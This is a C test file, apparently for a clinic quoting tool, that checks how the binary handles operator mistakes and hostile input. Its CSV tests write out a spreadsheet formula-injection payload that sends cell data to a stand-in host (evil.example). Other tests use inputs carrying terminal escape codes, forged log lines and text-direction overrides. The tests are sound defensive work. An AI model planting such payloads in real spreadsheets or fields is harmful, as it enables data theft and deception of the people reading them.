/* Careless-operator mistakes (issue #12): each test runs the binary the way
 * a tired operator would, and checks that the mistake is refused or made
 * harmless, with one line on stderr saying what to do. */
#include <criterion/criterion.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "csv_cell.h"
#include "helpers.h"
#include "human_text.h"

#define DAY0 "SOURCE_DATE_EPOCH=1795392000 " /* 2026-11-23 */
#define TABLES "REGENQUOTE_PRICES=pricing REGENQUOTE_TEMPLATES=templates "

/* A fresh folder with an empty register of engine e (issuing needs one):
 * the test's register, th_reg(). */
static char *reg_tmpdir_on(size_t e)
{
    char *dir = th_tmpdir();
    cr_assert_not_null(dir);
    th_use_register(e, dir);
    return dir;
}

/* The same on SQLite (dir/reg.db), for what is not the register's: the
 * clock, standard output, typed text, files. */
static char *reg_tmpdir(void)
{
    return reg_tmpdir_on(th_engine_index("sqlite"));
}

/* Run bin with args, the test's register (dir/reg.db when the test made
 * none: a command that must not make one) and the output folder in dir,
 * env first. */
static int rq_in(const char *dir, const char *bin, const char *env, const char *args, char **out, char **err)
{
    char cmd[8192], reg[800];
    if (*th_reg())
        snprintf(reg, sizeof reg, "%s", th_reg());
    else
        snprintf(reg, sizeof reg, "%s/reg.db", dir);
    snprintf(cmd, sizeof cmd, TABLES "%s%s %s --register '%s' --out-dir %s/out", env, bin, args, reg, dir);
    return th_run(cmd, out, err);
}

static int lines_in(const char *s)
{
    int n = 0;
    for (; s && *s; s++)
        n += *s == '\n';
    return n;
}

/* ---- 4: a leftover SOURCE_DATE_EPOCH never dates a legal estimate ---------- */

/* The refusal names both dates and says how to go on, on one line. */
static void expect_clock_refusal(const char *err, const char *fixed)
{
    char want[80];
    snprintf(want, sizeof want, "SOURCE_DATE_EPOCH dates this run %s, but the clock says ", fixed);
    cr_assert(strstr(err, want), "%s", err);
    cr_assert(strstr(err, "unset SOURCE_DATE_EPOCH"), "%s", err);
    cr_assert_eq(lines_in(err), 1, "one line: %s", err);
}

Test(clock, the_product_refuses_to_issue_a_quote_dated_away_from_the_clock)
{
    char *dir = th_tmpdir(), *out, *err, p[300];
    cr_assert_eq(rq_in(dir, th_product_bin(), "SOURCE_DATE_EPOCH=0 ", "quote examples/adipose-two-knees.json", &out,
                       &err), 2, "%s", out);
    expect_clock_refusal(err, "1970-01-01");
    cr_assert_str_eq(out, "");
    free(out); free(err);
    /* a date in 2200 would issue at that year's prices */
    cr_assert_eq(rq_in(dir, th_product_bin(), "SOURCE_DATE_EPOCH=7258118400 ",
                       "quote examples/adipose-two-knees.json", &out, &err), 2, "%s", out);
    expect_clock_refusal(err, "2200-01-01");
    free(out); free(err);
    snprintf(p, sizeof p, "%s/reg.db", dir);
    cr_assert_neq(access(p, F_OK), 0, "no register was made");
    th_rmtree(dir);
    free(dir);
}

Test(clock, every_issuing_command_and_the_front_desk_refuse_it)
{
    char *dir = reg_tmpdir(), *out, *err, cmd[2000];
    /* a register with a quote, issued on today's date */
    cr_assert_eq(rq_in(dir, th_product_bin(), "env -u SOURCE_DATE_EPOCH ", "quote examples/adipose-two-knees.json",
                       &out, &err), 0, "%s", err);
    char number[40] = "";
    sscanf(out, "%39s", number);
    free(out); free(err);
    static const char *const verbs[] = { "revise", "void", "accept", "batch" };
    static const char *const rest[] = { "--add prp-booster", "--reason 'Patient moved'", "", "--issue -q" };
    for (size_t i = 0; i < sizeof verbs / sizeof verbs[0]; i++) {
        char args[200];
        snprintf(args, sizeof args, "%s %s %s", verbs[i], i == 3 ? "examples" : number, rest[i]);
        cr_assert_eq(rq_in(dir, th_product_bin(), "SOURCE_DATE_EPOCH=0 ", args, &out, &err), 2, "%s: %s", args, out);
        expect_clock_refusal(err, "1970-01-01");
        free(out); free(err);
    }
    snprintf(cmd, sizeof cmd, "SOURCE_DATE_EPOCH=0 %s serve --port 0", th_product_bin());
    cr_assert_eq(th_run(cmd, &out, &err), 2, "the front desk does not start: %s", out);
    expect_clock_refusal(err, "1970-01-01");
    free(out); free(err);
    snprintf(cmd, sizeof cmd, "SOURCE_DATE_EPOCH=0 %s show %s --register %s/reg.db", th_product_bin(), number, dir);
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "Status        issued"), "nothing changed: %s", out);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(clock, within_a_day_of_the_clock_it_issues_and_pricing_keeps_any_date)
{
    char *dir = reg_tmpdir(), *out, *err, env[64], cmd[1000];
    snprintf(env, sizeof env, "SOURCE_DATE_EPOCH=%lld ", (long long)time(NULL) - 3600);
    cr_assert_eq(rq_in(dir, th_product_bin(), env, "quote examples/adipose-two-knees.json", &out, &err), 0, "%s", err);
    free(out); free(err);
    /* reading and pricing are reproducible on any date */
    snprintf(cmd, sizeof cmd, DAY0 TABLES "%s price examples/adipose-two-knees.json", th_product_bin());
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "date 2026-11-23"), "%s", out);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(clock, the_help_of_issuing_commands_says_so)
{
    static const char *const cmds[] = { "quote", "revise", "void", "accept", "batch" };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
        char *out, *err, cmd[300];
        snprintf(cmd, sizeof cmd, "%s %s --help", th_product_bin(), cmds[i]);
        cr_assert_eq(th_run(cmd, &out, &err), 0);
        cr_assert(strstr(out, "SOURCE_DATE_EPOCH") && strstr(out, "more than a") && strstr(out, "day"), "%s: %s",
                  cmds[i], out);
        free(out); free(err);
    }
}

/* ---- 10: output lost to a full disk is an error --------------------------- */

Test(stdout, a_full_disk_on_standard_output_is_exit_1_for_every_command)
{
    char *dir = reg_tmpdir(), *out, *err;
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "quote examples/adipose-two-knees.json", &out, &err), 0, "%s", err);
    free(out); free(err);
    static const char *const cmds[] = {
        "list", "list --format csv", "list --format json", "show Q-2026-000001", "show Q-2026-000001 --format json",
        "quote examples/bone-marrow-one-ankle.json", "accept Q-2026-000002", "void Q-2026-000002 --reason Moved",
        "reprint Q-2026-000001", "repair", "batch examples --format none", "price examples/adipose-two-knees.json",
        "catalog", "validate", "prices show", "prices export --csv", "prices diff pricing pricing", "--help",
        "--version", "quote --help",
    };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
        char cmd[1200];
        snprintf(cmd, sizeof cmd, DAY0 TABLES "REGENQUOTE_REGISTER=%s/reg.db REGENQUOTE_OUT=%s/out %s %s > /dev/full",
                 dir, dir, th_bin(), cmds[i]);
        cr_assert_eq(th_run(cmd, &out, &err), 1, "%s: exit 1, not 0: %s", cmds[i], err);
        cr_assert(strstr(err, "regenquote: cannot write to standard output"), "%s: %s", cmds[i], err);
        /* a batch's summary comes first */
        cr_assert_eq(lines_in(err), strncmp(cmds[i], "batch", 5) ? 1 : 2, "%s: one line: %s", cmds[i], err);
        free(out); free(err);
    }
    /* an issuing batch stops at the first number it cannot show */
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "batch examples --issue -j 1 > /dev/full", &out, &err), 1);
    cr_assert(strstr(err, "regenquote: cannot write to standard output: No space left on device; Q-2026-000003 is "
                          "issued but not shown, and this worker stops: run the batch again to see it\n"), "%s", err);
    cr_assert(strstr(err, "1 request, 1 issued, 0 failed"), "%s", err);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

/* ---- 9: -o onto what is not a regular file writes it in place --------------- */

/* A symbolic link in dir to target (tests never write to /dev paths directly:
 * if this ever regressed, only the link would be replaced). */
static void link_to(const char *dir, const char *name, const char *target)
{
    char p[400];
    snprintf(p, sizeof p, "%s/%s", dir, name);
    cr_assert_eq(symlink(target, p), 0);
}

static bool still_link(const char *dir, const char *name)
{
    char p[400];
    struct stat st;
    snprintf(p, sizeof p, "%s/%s", dir, name);
    return lstat(p, &st) == 0 && S_ISLNK(st.st_mode);
}

Test(output, every_dash_o_onto_standard_output_writes_there)
{
    char *dir = reg_tmpdir(), *out, *err, cmd[2000];
    link_to(dir, "o", "/dev/stdout");
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "quote examples/adipose-two-knees.json", &out, &err), 0, "%s", err);
    free(out); free(err);
    static const char *const cmds[] = {
        "price examples/adipose-two-knees.json --format json", "price examples/adipose-two-knees.json",
        "price examples/adipose-two-knees.json --format pdf", "prices export --csv", "prices sheet",
        "reprint Q-2026-000001",
    };
    static const char *const starts[] = { "{", "Lone Star", "%PDF-", "id,code,price", "%PDF-", "%PDF-" };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
        const char *args = cmds[i];
        char cap[400];
        snprintf(cap, sizeof cap, "%s/captured", dir);
        snprintf(cmd, sizeof cmd, DAY0 TABLES "REGENQUOTE_REGISTER=%s/reg.db %s %s -o %s/o > %s", dir, th_bin(), args,
                 dir, cap);
        cr_assert_eq(th_run(cmd, &out, &err), 0, "%s: %s", args, err);
        size_t len = 0;
        char *got = th_read(cap, &len);
        cr_assert(got && !strncmp(got, starts[i], strlen(starts[i])), "%s: the output is on stdout: %.80s", args,
                  got ? got : "");
        if (starts[i][0] == '%')
            cr_assert(len > 6 && !memcmp(got + len - 6, "%%EOF\n", 6), "%s: nothing after the PDF", args);
        free(got);
        cr_assert(still_link(dir, "o"), "%s: the link is not replaced", args);
        free(out); free(err);
    }
    th_rmtree(dir);
    free(dir);
}

Test(output, a_device_is_written_in_place_not_replaced_by_a_file)
{
    char *dir = th_tmpdir(), *out, *err, cmd[1000];
    link_to(dir, "sink", "/dev/null");
    snprintf(cmd, sizeof cmd, DAY0 TABLES "%s price examples/adipose-two-knees.json --format pdf -o %s/sink", th_bin(),
             dir);
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    cr_assert(still_link(dir, "sink"), "the device is written through, not replaced");
    struct stat st;
    cr_assert(stat("/dev/null", &st) == 0 && S_ISCHR(st.st_mode));
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(output, a_fifo_is_written_in_place_for_its_reader)
{
    char *dir = th_tmpdir(), *out, *err, cmd[1500], p[400];
    snprintf(cmd, sizeof cmd, "mkfifo %s/fifo && { timeout 10 cat %s/fifo > %s/got & } && " DAY0 TABLES
             "%s price examples/adipose-two-knees.json --format json -o %s/fifo; st=$?; wait; exit $st",
             dir, dir, dir, th_bin(), dir);
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    snprintf(p, sizeof p, "%s/got", dir);
    char *got = th_read(p, NULL);
    cr_assert(got && strstr(got, "\"total_cents\""), "the reader got the quote: %s", got ? got : "(nothing)");
    struct stat st;
    snprintf(p, sizeof p, "%s/fifo", dir);
    cr_assert(lstat(p, &st) == 0 && S_ISFIFO(st.st_mode), "still a FIFO");
    free(got); free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(output, a_folder_is_refused_and_a_regular_file_is_still_replaced_whole)
{
    char *dir = th_tmpdir(), *out, *err, cmd[1000], p[400];
    snprintf(cmd, sizeof cmd, DAY0 TABLES "%s price examples/adipose-two-knees.json -o %s", th_bin(), dir);
    cr_assert_eq(th_run(cmd, &out, &err), 1);
    cr_assert(strstr(err, "is a folder; give the name of a file to write"), "%s", err);
    free(out); free(err);
    snprintf(p, sizeof p, "%s/q.txt", dir);
    th_write(p, "old");
    snprintf(cmd, sizeof cmd, DAY0 TABLES "%s price examples/adipose-two-knees.json -o %s", th_bin(), p);
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    struct stat st;
    cr_assert(stat(p, &st) == 0 && (st.st_mode & 0777) == 0600, "a new file, mode 0600");
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

/* ---- 11: a FIFO where files are read is refused at once, never waited on ---- */

Test(fifo, in_the_price_tables_or_the_templates_it_is_refused_at_once)
{
    char *dir = th_tmpdir(), *out, *err, cmd[2000];
    cr_assert_eq(th_tables_with(dir, "clinic.json", NULL, NULL), 0);
    snprintf(cmd, sizeof cmd, "rm %s/clinic.json && mkfifo %s/clinic.json && " DAY0
             "timeout 10 %s price examples/adipose-two-knees.json --prices %s", dir, dir, th_bin(), dir);
    cr_assert_eq(th_run(cmd, &out, &err), 1, "refused, not waited on (124 is a hang): %s", err);
    cr_assert(strstr(err, "clinic.json: is a FIFO, a device or a socket, not a regular file; expected a JSON file"),
              "%s", err);
    free(out); free(err);
    snprintf(cmd, sizeof cmd, "timeout 10 %s validate %s", th_bin(), dir);
    cr_assert_eq(th_run(cmd, &out, &err), 1, "%s", err);
    cr_assert(strstr(out, "clinic.json: is a FIFO, a device or a socket, not a regular file"), "%s", out);
    free(out); free(err);
    /* a template */
    snprintf(cmd, sizeof cmd, "mkdir -p %s/tpl && cp -R templates/en templates/es %s/tpl/ && rm %s/tpl/en/quote.txt && "
             "mkfifo %s/tpl/en/quote.txt && " DAY0 "timeout 10 %s price examples/adipose-two-knees.json --format pdf "
             "-o %s/q.pdf --templates %s/tpl", dir, dir, dir, dir, th_bin(), dir, dir);
    cr_assert_eq(th_run(cmd, &out, &err), 1, "%s", err);
    cr_assert(strstr(err, "quote.txt: is a FIFO, a device or a socket, not a regular file"), "%s", err);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(fifo, in_a_batch_folder_it_is_one_failed_request_and_the_rest_go_on)
{
    char *dir = th_tmpdir(), *out, *err, cmd[2000];
    snprintf(cmd, sizeof cmd, "mkdir %s/in && cp examples/adipose-two-knees.json %s/in/a.json && mkfifo %s/in/b.json && "
             DAY0 TABLES "timeout 10 %s batch %s/in --format none", dir, dir, dir, th_bin(), dir);
    cr_assert_eq(th_run(cmd, &out, &err), 1, "%s", err);
    cr_assert(strstr(err, "b.json: is a FIFO, a device or a socket, not a regular file; expected a request file; take it "
                          "out of the folder"), "%s", err);
    cr_assert(strstr(err, "2 requests, 1 priced, 1 failed"), "%s", err);
    free(out); free(err);
    /* a FIFO as the input itself: every worker reads it again */
    snprintf(cmd, sizeof cmd, "mkfifo %s/in.jsonl && " DAY0 TABLES "timeout 10 %s batch %s/in.jsonl --format none", dir,
             th_bin(), dir);
    cr_assert_eq(th_run(cmd, &out, &err), 1, "%s", err);
    cr_assert(strstr(err, "in.jsonl: is a FIFO, a device or a socket, not a regular file; expected a JSON Lines file or "
                          "a folder (a batch reads its input more than once: save the requests to a file)"), "%s", err);
    cr_assert_eq(lines_in(err), 1, "%s", err);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(fifo, a_request_the_user_pipes_in_is_still_read)
{
    char *out, *err, cmd[1000];
    snprintf(cmd, sizeof cmd, "cat examples/adipose-two-knees.json | " DAY0 TABLES "%s price /dev/stdin", th_bin());
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "TOTAL YOU PAY"), "%s", out);
    free(out); free(err);
}

/* ---- 8: a CSV never opens a door in a spreadsheet ------------------------- */

#define EVIL "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"

ENGINE_TEST(csv, list_neutralises_a_cell_a_spreadsheet_would_run)
{
    char *dir = reg_tmpdir_on(eng->engine), *out, *err;
    cr_assert_eq(rq_in(dir, th_bin(), DAY0,
                       "quote --source adipose --area left-knee --patient-name '" EVIL "' --patient-id '@SUM(A1)'",
                       &out, &err), 0, "%s", err);
    free(out); free(err);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "quote --source adipose --area left-knee --patient-name '+1-555 cmd' "
                       "--patient-id '-2+3'", &out, &err), 0, "%s", err);
    free(out); free(err);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "list --format csv", &out, &err), 0, "%s", err);
    cr_assert(strstr(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","), "%s", out);
    cr_assert(strstr(out, ",\"'@SUM(A1)\","), "%s", out);
    cr_assert(strstr(out, ",\"'+1-555 cmd\","), "%s", out);
    cr_assert(strstr(out, ",\"'-2+3\","), "%s", out);
    cr_assert(!strstr(out, ",=") && !strstr(out, ",@") && !strstr(out, ",+"), "no cell starts a formula: %s", out);
    cr_assert(strstr(out, ",8350.00,"), "numbers stay numbers: %s", out);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

/* Replace the first `from` in dir/catalog.json by `to`. */
static void edit_catalog(const char *dir, const char *from, const char *to)
{
    char p[400];
    snprintf(p, sizeof p, "%s/catalog.json", dir);
    char *text = th_read(p, NULL);
    cr_assert(text);
    char *at = strstr(text, from);
    cr_assert(at, "%s is in the catalog", from);
    size_t pre = (size_t)(at - text);
    char *nt = malloc(strlen(text) - strlen(from) + strlen(to) + 1);
    memcpy(nt, text, pre);
    strcpy(nt + pre, to);
    strcat(nt, at + strlen(from));
    th_write(p, nt);
    free(nt);
    free(text);
}

Test(csv, prices_export_neutralises_and_import_takes_it_back)
{
    char *dir = reg_tmpdir(), *out, *err, cmd[2000], csv[400];
    cr_assert_eq(th_tables_with(dir, "catalog.json", NULL, NULL), 0);
    edit_catalog(dir, "\"New-patient evaluation and treatment planning with the physician\"",
                 "\"=HYPERLINK(\\\"http://evil.example/\\\",\\\"Click\\\")\"");
    edit_catalog(dir, "\"Physician review of your existing X-rays and MRI\"", "\"-2 visits; @ the clinic\"");
    edit_catalog(dir, "\"Diagnostic ultrasound of the treatment area\"", "\"'=already quoted\"");
    snprintf(csv, sizeof csv, "%s/items.csv", dir);
    snprintf(cmd, sizeof cmd, DAY0 "%s prices export --csv --prices %s -o %s", th_bin(), dir, csv);
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    free(out); free(err);
    char *text = th_read(csv, NULL);
    cr_assert(strstr(text, ",\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"Click\"\")\","), "%s", text);
    cr_assert(strstr(text, ",\"'-2 visits; @ the clinic\","), "%s", text);
    cr_assert(strstr(text, ",\"''=already quoted\","), "one more apostrophe, taken off again: %s", text);
    free(text);
    /* export -> import is no change at all */
    snprintf(cmd, sizeof cmd, DAY0 "%s prices import %s --prices %s", th_bin(), csv, dir);
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "No changes"), "the round trip gives the same texts: %s", out);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(csv, the_neutralising_apostrophe_comes_off_exactly)
{
    static const char *const cells[] = { "=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x", "'", "''",
                                         "'abc", "-12.50", "+7", "-", "=", "plain", "", "O'Brien", "-.5" };
    for (size_t i = 0; i < sizeof cells / sizeof cells[0]; i++) {
        const char *s = cells[i];
        char written[64];
        snprintf(written, sizeof written, "%s%s", csv_cell_guarded(s) ? "'" : "", s);
        cr_assert_str_eq(csv_cell_unguard(written), s, "cell %zu", i);
    }
    cr_assert(!csv_cell_guarded("-12.50") && !csv_cell_guarded("+7"), "plain numbers are not formulas");
    cr_assert(csv_cell_guarded("-.5") && csv_cell_guarded("-") && csv_cell_guarded("\tx"));
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    csv_cell_write(f, "=1+1");
    fputc(',', f);
    csv_cell_write(f, "a,b");
    fputc(',', f);
    csv_cell_write(f, "-12.50");
    fclose(f);
    cr_assert_str_eq(buf, "\"'=1+1\",\"a,b\",-12.50");
    free(buf);
}

/* ---- 12: typed text is checked alike on every path ------------------------ */

/* Run `bin args` (the register in dir, unless dir is NULL); expect status
 * and a one-line message. */
static void refused(const char *dir, const char *args, int status, const char *msg)
{
    char *out, *err, cmd[2000];
    snprintf(cmd, sizeof cmd, DAY0 TABLES "%s %s", th_bin(), args);
    cr_assert_eq(dir ? rq_in(dir, th_bin(), DAY0, args, &out, &err) : th_run(cmd, &out, &err), status, "%s: %s", args,
                 err);
    cr_assert(strstr(err, msg), "%s: expected '%s' in: %s", args, msg, err);
    cr_assert_eq(lines_in(err), 1, "%s: one line: %s", args, err);
    free(out); free(err);
}

ENGINE_TEST(text, void_and_accept_reasons_are_one_plain_line)
{
    char *dir = reg_tmpdir_on(eng->engine), *out, *err;
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "quote examples/adipose-two-knees.json", &out, &err), 0, "%s", err);
    free(out); free(err);
    refused(dir, "void Q-2026-000001 --reason \"$(printf 'Moved\\033[2J\\033[31m')\"", 2,
            "regenquote: --reason: contains a control character; use plain text on one line");
    refused(dir, "void Q-2026-000001 --reason \"$(printf 'Moved\\n2026-11-23T10:00:00Z  accepted    boss')\"", 2,
            "--reason: contains a control character");
    refused(dir, "void Q-2026-000001 --reason \"$(printf 'Moved \\342\\200\\256evil')\"", 2,
            "--reason: contains an invisible text-direction mark; retype it as plain text");
    refused(dir, "void Q-2026-000001 --reason \"$(head -c 5000 /dev/zero | tr '\\0' x)\"", 2,
            "--reason: is too long; at most 200 characters");
    refused(dir, "void Q-2026-000001 --reason \"$(printf '\\342\\200\\213 ')\"", 2,
            "--reason: is blank (only spaces or invisible characters); type the text");
    refused(dir, "accept Q-2026-000001 --reason \"$(printf 'ok\\302\\205')\"", 2, "--reason: contains a control character");
    /* who is working is the operating-system account now, never typed
     * (--by and $REGENQUOTE_USER are gone: test_access.c) */
    /* nothing of it reached the register */
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "show Q-2026-000001", &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "Status        issued"), "%s", out);
    cr_assert(!strstr(out, "\033") && lines_in(out) < 14, "%s", out);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(text, names_are_checked_alike_in_price_quote_files_and_batches)
{
    char *dir = reg_tmpdir(), p[400];
    static const char *const verbs[] = { "price", "quote" };
    for (int v = 0; v < 2; v++) {
        char args[400];
        snprintf(args, sizeof args, "%s --source adipose --area left-knee --patient-name \"$(printf '\\377')\"",
                 verbs[v]);
        const char *reg = v == 0 ? NULL : dir; /* price takes no --register */
        refused(reg, args, 2, "--patient-name: is not valid UTF-8; retype it as plain text");
        snprintf(args, sizeof args, "%s --source adipose --area left-knee --patient-name '   '", verbs[v]);
        refused(reg, args, 2, "--patient-name: is blank (only spaces or invisible characters); type the text");
        snprintf(args, sizeof args,
                 "%s --source adipose --area left-knee --patient-name \"$(printf '\\342\\200\\213\\342\\200\\214')\"",
                 verbs[v]);
        refused(reg, args, 2, "--patient-name: is blank");
        snprintf(args, sizeof args, "%s --source adipose --area left-knee --condition \"$(printf 'Knee\\302\\233')\"",
                 verbs[v]);
        refused(reg, args, 2, "--condition: contains a control character");
    }
    /* a request file and a batch line: the field's path, line and column */
    snprintf(p, sizeof p, "%s/blank.json", dir);
    th_write(p, "{ \"patient\": { \"name\": \"\\u200b \\u00a0\" }, \"areas\": [\"left-knee\"], \"cell_source\": \"adipose\" }");
    char args[600];
    snprintf(args, sizeof args, "quote %s", p);
    refused(dir, args, 1, "blank.json:1:24: patient.name: is blank (only spaces or invisible characters); type the text");
    snprintf(p, sizeof p, "%s/in.jsonl", dir);
    th_write(p, "{ \"areas\": [\"left-knee\"], \"cell_source\": \"adipose\", \"condition\": \"x\\u0085y\" }\n"
                "{ \"areas\": [\"left-knee\"], \"cell_source\": \"adipose\", "
                "\"discounts\": [ { \"id\": \"courtesy\", \"amount\": \"10.00\", \"reason\": \"\\u2066x\" } ] }\n");
    snprintf(args, sizeof args, "batch %s --issue -q", p);
    char *out, *err;
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, args, &out, &err), 1, "%s", err);
    cr_assert(strstr(err, "in.jsonl:1:") && strstr(err, "condition: contains a control character"), "%s", err);
    cr_assert(strstr(err, "in.jsonl:2:") && strstr(err, "discounts[0].reason: contains an invisible text-direction mark"),
              "%s", err);
    cr_assert(strstr(err, "2 requests, 0 issued, 2 failed"), "%s", err);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

Test(text, the_one_rule_unit)
{
    char why[HUMAN_TEXT_WHY];
    cr_assert_null(human_text_problem("José Müller-Ñúñez", 200, why));
    cr_assert_null(human_text_problem("Nguyễn Thị Hồng", 200, why));
    cr_assert_null(human_text_problem("O'Brien \xe2\x80\x8d x", 200, why), "a joiner inside a name is fine");
    cr_assert_str_eq(human_text_problem("", 200, why), "is empty");
    cr_assert_str_eq(human_text_problem("\xef\xbb\xbf\xc2\xa0\xe3\x80\x80", 200, why),
                     "is blank (only spaces or invisible characters); type the text");
    cr_assert_str_eq(human_text_problem("a\xc2\x9b", 200, why), "contains a control character; use plain text on one line");
    cr_assert_str_eq(human_text_problem("a\xe2\x80\xa8" "b", 200, why),
                     "contains a control character; use plain text on one line");
    cr_assert_str_eq(human_text_problem("a\xd8\x9c", 200, why),
                     "contains an invisible text-direction mark; retype it as plain text");
    cr_assert_str_eq(human_text_problem("\xc0\xaf", 200, why), "is not valid UTF-8; retype it as plain text");
    cr_assert_str_eq(human_text_problem("\xed\xa0\x80", 200, why), "is not valid UTF-8; retype it as plain text");
    cr_assert_str_eq(human_text_problem("abcde", 4, why), "is too long; at most 4 characters");
    cr_assert_null(human_text_problem("ñññññ", 5, why), "characters, not bytes");
}

/* ---- 6: a batch killed or run twice never gives a patient two quotes ------- */

ENGINE_TEST(batch_issue, running_the_same_batch_twice_issues_each_request_once)
{
    char *dir = reg_tmpdir_on(eng->engine), *out, *err, *again;
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "batch examples --issue -j 2", &out, &err), 0, "%s", err);
    cr_assert_eq(lines_in(out), 7, "%s", out);
    free(err);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "batch examples --issue -j 2", &again, &err), 0, "%s", err);
    cr_assert(strstr(err, "7 requests, 0 issued, 7 already issued (not again), 0 failed"), "%s", err);
    /* each request names the quote it already has */
    for (const char *l = out; *l; l = strchr(l, '\n') + 1) {
        char idx[16], number[40], want[128];
        cr_assert_eq(sscanf(l, "%15s %39s", idx, number), 2);
        snprintf(want, sizeof want, "%-8s %s  already issued; not issued again\n", idx, number);
        cr_assert(strstr(again, want), "%s in: %s", want, again);
    }
    free(out); free(again); free(err);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "list --format csv", &out, &err), 0, "%s", err);
    cr_assert_eq(lines_in(out), 8, "seven quotes and the header, not fourteen: %s", out);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

ENGINE_TEST(batch_issue, an_idempotency_key_names_one_issuing)
{
    char *dir = reg_tmpdir_on(eng->engine), *out, *err, p[400], args[600];
    snprintf(p, sizeof p, "%s/in.jsonl", dir);
    th_write(p, "{ \"idempotency_key\": \"visit-17\", \"areas\": [\"left-knee\"], \"cell_source\": \"adipose\" }\n"
                "{ \"idempotency_key\": \"visit-17\", \"areas\": [\"right-knee\"], \"cell_source\": \"adipose\" }\n"
                "{ \"idempotency_key\": \"visit-18\", \"areas\": [\"left-knee\"], \"cell_source\": \"adipose\" }\n");
    snprintf(args, sizeof args, "batch %s --issue", p);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, args, &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "1        Q-2026-000001  "), "%s", out);
    cr_assert(strstr(out, "2        Q-2026-000001  already issued; not issued again"), "the key, not the plan: %s", out);
    cr_assert(strstr(out, "3        Q-2026-000002  "), "another key, the same plan: a new quote: %s", out);
    free(out); free(err);
    /* quote honours a request's key too; a revision of it is a new issuing */
    snprintf(p, sizeof p, "%s/one.json", dir);
    th_write(p, "{ \"idempotency_key\": \"visit-18\", \"areas\": [\"left-knee\"], \"cell_source\": \"adipose\" }");
    snprintf(args, sizeof args, "quote %s", p);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, args, &out, &err), 0, "%s", err);
    cr_assert_str_eq(out, "Q-2026-000002  already issued with idempotency key 'visit-18'; nothing new issued\n");
    free(out); free(err);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, "revise Q-2026-000002 --add prp-booster", &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "Q-2026-000003"), "%s", out);
    free(out); free(err);
    th_rmtree(dir);
    free(dir);
}

/* kill -9 the parent of `batch --issue -j 2` once it has printed a few
 * numbers: its workers stop (dead or zombies) within a second, every quote
 * in the register was printed, and running the batch again issues only the
 * rest. */
ENGINE_TEST(batch_issue, a_killed_batch_stops_its_workers_and_printed_every_committed_number)
{
    char *dir = reg_tmpdir_on(eng->engine), *out, *err, cmd[4000], numbers[1200], counts[1200];
    th_engine_query_cmd(eng->engine, th_reg(), "SELECT number FROM quotes ORDER BY 1", numbers, sizeof numbers);
    th_engine_query_cmd(eng->engine, th_reg(), "SELECT count(*), count(DISTINCT patient_id) FROM quotes", counts,
                        sizeof counts);
    /* 120 requests, one patient each */
    snprintf(cmd, sizeof cmd,
             "i=0; while [ $i -lt 120 ]; do printf '{ \"patient\": { \"id\": \"P-%%03d\" }, \"areas\": [\"left-knee\"], "
             "\"cell_source\": \"adipose\" }\\n' $i; i=$((i+1)); done > %s/in.jsonl", dir);
    cr_assert_eq(th_run(cmd, NULL, NULL), 0);
    snprintf(cmd, sizeof cmd,
             "cd %s || exit 9; " DAY0 "REGENQUOTE_PRICES=$OLDPWD/pricing REGENQUOTE_TEMPLATES=$OLDPWD/templates "
             "%s batch in.jsonl --issue -j 2 --register '%s' --out-dir out > printed 2> err & p=$!; "
             "i=0; while [ \"$(cat printed 2>/dev/null | wc -l)\" -lt 3 ] && [ $i -lt 1000 ]; do sleep 0.01; i=$((i+1)); done; "
             "kids=$(pgrep -P $p); kill -9 $p; wait $p; "
             "i=0; while [ $i -lt 100 ]; do alive=''; "
             "  for k in $kids; do s=$(awk '{print $3}' /proc/$k/stat 2>/dev/null); "
